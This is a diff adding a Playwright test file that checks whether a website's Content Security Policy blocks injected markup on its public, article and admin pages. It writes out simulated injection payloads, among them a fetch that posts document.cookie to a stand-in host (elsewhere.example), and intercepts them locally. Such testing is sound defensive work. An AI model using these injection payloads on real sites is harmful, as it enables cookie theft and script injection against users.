@@ -1,0 +1,112 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from './test.ts';
+
+// Chromium writes every refusal to the console: that is what these tests want.
+test.use({ expectedConsoleErrors: /Content Security Policy|Content-Security-Policy|ERR_BLOCKED_BY_CSP/ });
+
+interface Attacked {
+  attacked?: string[];
+  refused?: string[];
+}
+
+/** What somebody does who got markup into a page: each way tries to run, to load or to send something. */
+const attacks = (elsewhere: string) => {
+  const page = window as unknown as Attacked;
+  page.attacked = [];
+  page.refused = [];
+  document.addEventListener('securitypolicyviolation', (event) =>
+    page.refused?.push(event.effectiveDirective),
+  );
+  const add = (tag: string, properties: Record<string, unknown>) =>
+    document.body.append(Object.assign(document.createElement(tag), properties));
+  const succeeded = (how: string) => () => page.attacked?.push(how);
+  add('script', { textContent: "window.attacked.push('inline script')" });
+  add('script', { src: `${elsewhere}/a.js`, onload: succeeded('foreign script') });
+  add('script', { src: 'data:text/javascript,window.attacked.push("data script")' });
+  add('div', { innerHTML: '<img src="/favicon.svg" onload="window.attacked.push(\'handler\')">' });
+  add('img', { src: `${elsewhere}/a.png`, onload: succeeded('foreign image') });
+  add('iframe', { src: `${elsewhere}/frame` });
+  add('object', { data: `${elsewhere}/object` });
+  add('link', { rel: 'stylesheet', href: `${elsewhere}/a.css`, onload: succeeded('foreign style') });
+  add('base', { href: elsewhere });
+  add('video', { src: `${elsewhere}/a.mp4` });
+  const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' });
+  document.body.append(form);
+  form.submit();
+  // As a text: the browser's own evaluation would be let through.
+  setTimeout("window.attacked.push('eval')");
+  new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }))).onerror = () => {};
+  fetch(`${elsewhere}/take`, { method: 'POST', body: document.cookie, mode: 'no-cors' }).then(
+    succeeded('foreign fetch'),
+    () => {},
+  );
+  navigator.sendBeacon(`${elsewhere}/beacon`, 'x');
+  new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`).onopen = succeeded('socket');
+};
+
+/** Everything that was tried on a page, and who was asked for something. */
+async function attack(page: Page, path: string) {
+  const asked: string[] = [];
+  // Another origin than the page's, and no https: images from there are an article's good right.
+  const elsewhere = 'http://elsewhere.example';
+  await page.context().route(`${elsewhere}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ status: 200, body: '' });
+  });
+  await page.goto(path);
+  await page.waitForLoadState('networkidle');
+  await page.evaluate(attacks, elsewhere);
+  const refused = () => page.evaluate(() => [...new Set((window as unknown as Attacked).refused)].sort());
+  await expect.poll(async () => (await refused()).length).toBeGreaterThanOrEqual(12);
+  return {
+    asked,
+    refused: await refused(),
+    attacked: await page.evaluate(() => (window as unknown as Attacked).attacked),
+  };
+}
+
+for (const [kind, path] of [
+  ['a public page', '/'],
+  ['an article', '/en/blogg/er-brod-ultraprosessert'],
+  ['a page with a script of its own', '/upf-score'],
+  ['the admin', '/admin/login'],
+] as const) {
+  test(`${kind} runs, loads and sends nothing that somebody put into it`, async ({ page }) => {
+    const { asked, attacked, refused } = await attack(page, path);
+    expect(attacked).toEqual([]);
+    expect(asked).toEqual([]);
+    expect(refused).toEqual([
+      'base-uri',
+      'connect-src',
+      'form-action',
+      'frame-src',
+      'img-src',
+      'media-src',
+      'object-src',
+      'script-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-elem',
+      'worker-src',
+    ]);
+  });
+}
+
+test('nobody can put a page of ours into a frame', async ({ page, baseURL }) => {
+  await page.route('http://elsewhere.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/admin/login"></iframe>` }),
+  );
+  await page.goto('http://elsewhere.example/');
+  await page.waitForLoadState('networkidle');
+  const frame = page.frames().find((each) => each !== page.mainFrame());
+  expect(await frame?.locator('input').count()).toBe(0);
+});
+
+test('what is no page can run nothing, even when it is opened as one', async ({ page }) => {
+  for (const path of ['/api/config', '/robots.txt', '/sitemap.xml', '/auth/v1/settings', '/favicon.svg']) {
+    const headers = (await page.request.get(path)).headers();
+    expect(headers['content-security-policy'], path).toContain("default-src 'none'");
+    expect(headers['content-security-policy'], path).not.toContain('script-src');
+    expect(headers['x-content-type-options'], path).toBe('nosniff');
+  }
+});
